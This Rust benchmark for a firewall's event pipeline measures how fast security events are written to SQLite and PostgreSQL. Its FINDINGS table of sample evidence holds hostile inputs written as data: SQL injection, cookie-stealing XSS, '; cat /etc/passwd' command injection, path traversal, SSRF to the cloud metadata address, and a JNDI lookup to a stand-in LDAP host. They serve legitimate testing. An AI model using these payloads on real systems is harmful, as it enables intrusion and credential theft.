//! Events per second through the real delivery pipeline into the SQLite sink and the PostgreSQL sink.
//!
//! ```text
//! cargo run --release -p rampart-events --example throughput -- [options]
//!
//!   --events N        events per run (default 200000)
//!   --batch 256,1024  sink batch sizes to try, one run each (default 256,1024)
//!   --pg CONNSTR      also measure the PostgreSQL sink, e.g. "host=127.0.0.1 port=5433 user=postgres dbname=postgres"
//!   --no-sqlite       skip the SQLite sink
//!   --dir PATH        where the SQLite files go (default: a temporary directory, removed at the end)
//!   --flush-ms MS     the sinks' flush_interval (default 20; it only matters for the last, partial batch)
//! ```
//!
//! Each run is one sink alone behind a fresh `Pipeline` built with `PipelineBuilder` (a fresh SQLite file, a
//! fresh PostgreSQL table). N realistic events (1-3 findings with class, rule, point and evidence; varied
//! client addresses, paths, user agents, fingerprints) are built first; then one event is delivered as a
//! warm-up (opens the SQLite writer, connects to PostgreSQL and creates the schema), and the clock runs from
//! the first of the N emits until `delivered + dropped == N` in the pipeline's own metrics. The intake queue
//! and the sink buffer hold N, so nothing should drop; drops are reported if any. The rows are counted in
//! the database afterwards.

use rampart_events::pipeline::drop_reason;
use rampart_events::{Action, Event, EventKind, EventMetrics, Finding, NoResponder, PipelineBuilder};
use rampart_policy::events::{
    Deliver, EventFilter, EventSettings, PostgresSpec, Secret, SinkKind, SinkSpec, SqliteSpec,
};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// How long a run may go without any progress before it is abandoned.
const STALL_LIMIT: Duration = Duration::from_secs(60);

struct Args {
    events: usize,
    batches: Vec<usize>,
    pg: Option<String>,
    sqlite: bool,
    dir: Option<PathBuf>,
    flush: Duration,
}

fn usage() -> ! {
    eprintln!(
        "usage: throughput [--events N] [--batch 256,1024] [--pg CONNSTR] [--no-sqlite] [--dir PATH] [--flush-ms MS]"
    );
    std::process::exit(2)
}

fn parse_args() -> Args {
    let mut a = Args {
        events: 200_000,
        batches: vec![256, 1024],
        pg: None,
        sqlite: true,
        dir: None,
        flush: Duration::from_millis(20),
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| usage());
        match arg.as_str() {
            "--events" | "-n" => a.events = value().replace('_', "").parse().unwrap_or_else(|_| usage()),
            "--batch" => {
                a.batches = value()
                    .split(',')
                    .map(|s| s.trim().parse::<usize>().ok().filter(|&b| b > 0))
                    .collect::<Option<Vec<_>>>()
                    .unwrap_or_else(|| usage())
            }
            "--pg" => a.pg = Some(value()),
            "--no-sqlite" => a.sqlite = false,
            "--dir" => a.dir = Some(PathBuf::from(value())),
            "--flush-ms" => a.flush = Duration::from_millis(value().parse().unwrap_or_else(|_| usage())),
            "-h" | "--help" => usage(),
            _ => usage(),
        }
    }
    if a.events == 0 || a.batches.is_empty() {
        usage();
    }
    a
}

/// xorshift64*: deterministic variety without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// (class, rule_id, score, point, evidence, decode chain)
type Sample = (
    &'static str,
    &'static str,
    u32,
    &'static str,
    &'static str,
    &'static [&'static str],
);

const FINDINGS: &[Sample] = &[
    ("sqli", "SQLI-004", 8, "query.id", "1' or '1'='1", &[]),
    (
        "sqli",
        "SQLI-001",
        10,
        "query.q",
        "' union select username,password from users--",
        &["url"],
    ),
    ("sqli", "SQLI-003", 8, "body.json.filter", "1 and sleep(5)", &[]),
    ("sqli", "SQLI-005", 5, "body.form.username", "admin'--", &[]),
    (
        "sqli",
        "SQLI-010",
        6,
        "query.sort",
        "(select table_name from information_schema.tables)",
        &["url"],
    ),
    ("xss", "XSS-001", 10, "query.q", "<script>alert(1)</script>", &["url"]),
    (
        "xss",
        "XSS-003",
        10,
        "body.json.comment",
        "<img src=x onerror=alert(document.cookie)>",
        &[],
    ),
    (
        "xss",
        "XSS-002",
        8,
        "query.redirect",
        "<iframe src=javascript:alert(1)>",
        &["url", "html"],
    ),
    (
        "rce",
        "RCE-001",
        10,
        "body.form.host",
        "127.0.0.1; cat /etc/passwd",
        &[],
    ),
    (
        "rce",
        "RCE-003",
        10,
        "body.json.cmd",
        "powershell -EncodedCommand SQBFAFgA",
        &[],
    ),
    (
        "path-traversal",
        "LFI-001",
        8,
        "query.file",
        "../../../../etc/passwd",
        &["url", "url"],
    ),
    (
        "path-traversal",
        "LFI-003",
        8,
        "query.page",
        "php://filter/convert.base64-encode/resource=index",
        &[],
    ),
    (
        "ssrf",
        "SSRF-002",
        10,
        "body.json.url",
        "http://169.254.169.254/latest/meta-data/",
        &[],
    ),
    (
        "ssrf",
        "SSRF-001",
        6,
        "query.callback",
        "http://localhost:6379/",
        &["url"],
    ),
    ("ssti", "SSTI-002", 7, "body.form.name", "{{7*7}}", &[]),
    (
        "jndi",
        "JNDI-001",
        10,
        "header.user-agent",
        "${jndi:ldap://x.example/a}",
        &[],
    ),
    (
        "scanner",
        "SCANNER-001",
        8,
        "header.user-agent",
        "sqlmap/1.7.2#stable",
        &[],
    ),
    // A finding in a secret field: the dispatcher masks its evidence.
    ("sqli", "SQLI-004", 8, "body.form.password", "' or 1=1--", &[]),
];

const PATHS: &[&str] = &[
    "/api/users/{}",
    "/search",
    "/api/products",
    "/login",
    "/api/orders/{}/items",
    "/wp-admin/admin-ajax.php",
    "/graphql",
    "/api/v2/files/download",
    "/account/settings",
    "/api/comments/{}",
];

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];

const HOSTS: &[&str] = &["api.example.com", "shop.example.com", "admin.example.com"];
const ROUTES: &[&str] = &["api", "shop", "admin", "default"];

fn make_event(rng: &mut Rng) -> Event {
    let block = rng.below(10) < 7;
    let mut e = Event::new(EventKind::Request, if block { Action::Block } else { Action::Monitor });
    e.request_id = format!("{:016x}", rng.next());
    e.client_ip = match rng.below(10) {
        0 => format!("2001:db8::{:x}", rng.below(4096)),
        1..=4 => format!("203.0.113.{}", rng.below(254) + 1),
        _ => format!("198.51.{}.{}", rng.below(8) + 100, rng.below(254) + 1),
    };
    e.method = match rng.below(20) {
        0..=13 => "GET",
        14..=18 => "POST",
        _ => "PUT",
    }
    .to_string();
    e.host = rng.pick(HOSTS).to_string();
    e.path = rng.pick(PATHS).replace("{}", &(rng.below(100_000)).to_string());
    e.route = rng.pick(ROUTES).to_string();
    e.status = if block {
        403
    } else {
        *rng.pick(&[200, 200, 200, 404, 302])
    };
    e.user_agent = Some(rng.pick(USER_AGENTS).to_string());
    e.latency_us = 150 + rng.below(5_000) as u64;
    if rng.below(10) < 3 {
        e.session = Some(format!("{:016x}{:016x}", rng.next(), rng.next()));
    }
    e.fingerprints.insert(
        "ja4".into(),
        format!(
            "t13d{:02}{:02}h2_8daaf6152771_{:012x}",
            rng.below(20),
            rng.below(20),
            rng.next() >> 16
        ),
    );
    if rng.below(2) == 0 {
        e.fingerprints
            .insert("ja4h".into(), format!("ge11nn05enus_{:012x}", rng.next() >> 16));
    }
    for _ in 0..1 + rng.below(3) {
        let (class, rule_id, score, point, evidence, chain) = *rng.pick(FINDINGS);
        e.findings.push(Finding {
            class: class.into(),
            rule_id: rule_id.into(),
            score,
            point: point.into(),
            evidence: evidence.into(),
            decode_chain: chain.iter().map(|d| d.to_string()).collect(),
        });
        e.score += score;
    }
    e
}

fn settings(queue: usize) -> EventSettings {
    EventSettings {
        node: "bench-node".into(),
        queue,
        sinks: vec![],
        triggers: vec![],
    }
}

fn sink_spec(name: &str, args: &Args, batch: usize, kind: SinkKind) -> SinkSpec {
    SinkSpec {
        name: name.into(),
        deliver: Deliver::Events,
        filter: EventFilter::default(),
        buffer: args.events + 1,
        batch_size: batch,
        flush_interval: args.flush,
        max_attempts: 8,
        timeout: Duration::from_secs(5),
        kind,
    }
}

struct Outcome {
    elapsed: Duration,
    emit: Duration,
    delivered: u64,
    dropped: u64,
    errors: u64,
}

/// Every drop that concerns `sink` (the intake's included).
fn drops(m: &EventMetrics, sink: &str) -> u64 {
    m.dropped_count("-", drop_reason::QUEUE_FULL)
        + [
            drop_reason::BUFFER_FULL,
            drop_reason::RETRIES_EXHAUSTED,
            drop_reason::REJECTED,
            drop_reason::SHUTDOWN,
        ]
        .iter()
        .map(|r| m.dropped_count(sink, r))
        .sum::<u64>()
}

fn errors(m: &EventMetrics, sink: &str) -> u64 {
    m.sink_errors
        .get_or_create(&rampart_events::pipeline::NameLabel("sink", Arc::from(sink)))
        .get()
}

/// One run: a pipeline with this one sink, one warm-up event, then the N events, timed.
fn run<S: rampart_events::EventSink>(args: &Args, spec: &SinkSpec, sink: S) -> Result<Outcome, String> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ spec.batch_size as u64);
    let events: Vec<Event> = (0..args.events).map(|_| make_event(&mut rng)).collect();
    let warmup = make_event(&mut rng);

    let metrics = Arc::new(EventMetrics::unregistered());
    let mut b = PipelineBuilder::new(&settings(args.events + 1), metrics.clone(), Arc::new(NoResponder));
    b.add_sink(spec, sink);
    let pipeline = b.start().map_err(|e| format!("starting the pipeline: {e}"))?;
    let bus = pipeline.bus();
    let name = spec.name.as_str();

    let settled = |target: u64| metrics.delivered_count(name) + drops(&metrics, name) >= target;
    let wait = |target: u64, what: &str| -> Result<(), String> {
        let mut last = (0, Instant::now());
        while !settled(target) {
            let now = metrics.delivered_count(name) + drops(&metrics, name);
            if now != last.0 {
                last = (now, Instant::now());
            } else if last.1.elapsed() > STALL_LIMIT {
                return Err(format!(
                    "{what}: no progress for {STALL_LIMIT:?} at {now} of {target} (sink errors: {})",
                    errors(&metrics, name)
                ));
            }
            std::thread::sleep(Duration::from_micros(500));
        }
        Ok(())
    };

    bus.emit(warmup);
    wait(1, "warm-up")?;
    let base_delivered = metrics.delivered_count(name);
    let base_dropped = drops(&metrics, name);
    let base_errors = errors(&metrics, name);

    let n = args.events as u64;
    let start = Instant::now();
    for e in events {
        bus.emit(e);
    }
    let emit = start.elapsed();
    wait(base_delivered + base_dropped + n, "run")?;
    let elapsed = start.elapsed();

    let out = Outcome {
        elapsed,
        emit,
        delivered: metrics.delivered_count(name) - base_delivered,
        dropped: drops(&metrics, name) - base_dropped,
        errors: errors(&metrics, name) - base_errors,
    };
    if !pipeline.shutdown(Duration::from_secs(30)) {
        return Err("the pipeline did not shut down within 30 s".into());
    }
    Ok(out)
}

fn report(sink: &str, batch: usize, o: &Outcome, rows: &str) {
    let rate = o.delivered as f64 / o.elapsed.as_secs_f64();
    println!(
        "{sink:<8} batch {batch:>5}: {:>9.0} events/s  ({} delivered in {:.2} s; emit took {:.3} s; dropped {}; sink errors {}; {rows})",
        rate,
        o.delivered,
        o.elapsed.as_secs_f64(),
        o.emit.as_secs_f64(),
        o.dropped,
        o.errors,
    );
}

fn sqlite_run(args: &Args, dir: &Path, batch: usize) -> Result<(), String> {
    let path = dir.join(format!("throughput-{}-b{batch}.db", std::process::id()));
    let spec = sink_spec(
        "sqlite",
        args,
        batch,
        SinkKind::Sqlite(SqliteSpec {
            path: path.clone(),
            retention: Duration::from_secs(30 * 86_400),
            max_size: 1 << 30,
        }),
    );
    let SinkKind::Sqlite(s) = &spec.kind else {
        unreachable!()
    };
    let sink = rampart_events::sqlite::SqliteSink::open("sqlite", s).map_err(|e| e.to_string())?;
    let out = run(args, &spec, sink)?;
    let conn = rusqlite::Connection::open(&path).map_err(|e| e.to_string())?;
    let count = |sql: &str| {
        conn.query_row(sql, [], |r| r.get::<_, i64>(0))
            .map_err(|e| e.to_string())
    };
    let rows = format!(
        "{} event rows, {} finding rows, {:.0} MiB",
        count("SELECT COUNT(*) FROM events")?,
        count("SELECT COUNT(*) FROM findings")?,
        std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0) as f64 / (1 << 20) as f64
    );
    drop(conn);
    report("sqlite", batch, &out, &rows);
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", path.display()));
    }
    Ok(())
}

fn pg_run(args: &Args, url: &str, batch: usize) -> Result<(), String> {
    let table = format!("bench_events_b{batch}_{}", std::process::id());
    let spec = sink_spec(
        "postgres",
        args,
        batch,
        SinkKind::Postgres(PostgresSpec {
            url: Secret::new(url),
            table: table.clone(),
        }),
    );
    let SinkKind::Postgres(s) = &spec.kind else {
        unreachable!()
    };
    let sink = rampart_events::postgres::PostgresSink::new("postgres", s, spec.timeout).map_err(|e| e.to_string())?;
    let out = run(args, &spec, sink)?;
    let rows = pg_count_and_drop(url, &table)?;
    report(
        "postgres",
        batch,
        &out,
        &format!("{rows} rows in {table}, dropped after counting"),
    );
    Ok(())
}

/// Counts the rows the run wrote, then drops its tables so that the next run starts from empty ones.
fn pg_count_and_drop(url: &str, table: &str) -> Result<i64, String> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| e.to_string())?;
    rt.block_on(async {
        let (client, conn) = tokio_postgres::connect(url, tokio_postgres::NoTls)
            .await
            .map_err(|e| format!("counting rows: {e}"))?;
        let task = tokio::spawn(conn);
        let n: i64 = client
            .query_one(&format!("SELECT count(*) FROM \"{table}\""), &[])
            .await
            .map_err(|e| format!("counting rows: {e}"))?
            .get(0);
        client
            .batch_execute(&format!("DROP TABLE \"{table}\"; DROP TABLE \"{table}_alerts\""))
            .await
            .map_err(|e| format!("dropping the tables: {e}"))?;
        drop(client);
        let _ = task.await;
        Ok(n)
    })
}

fn main() {
    let args = parse_args();
    println!(
        "# {} events per run, batch sizes {:?}, flush_interval {:?}, intake queue and sink buffer {}",
        args.events,
        args.batches,
        args.flush,
        args.events + 1
    );
    let mut failed = false;
    if args.sqlite {
        let tmp;
        let dir = match &args.dir {
            Some(d) => d.clone(),
            None => {
                tmp = tempfile::Builder::new()
                    .prefix("rampart-throughput-")
                    .tempdir()
                    .expect("a temporary directory");
                tmp.path().to_path_buf()
            }
        };
        for &batch in &args.batches {
            if let Err(e) = sqlite_run(&args, &dir, batch) {
                eprintln!("sqlite batch {batch}: {e}");
                failed = true;
            }
        }
    }
    if let Some(url) = &args.pg {
        for &batch in &args.batches {
            if let Err(e) = pg_run(&args, url, batch) {
                eprintln!("postgres batch {batch}: {e}");
                failed = true;
            }
        }
    }
    if failed {
        std::process::exit(1);
    }
}
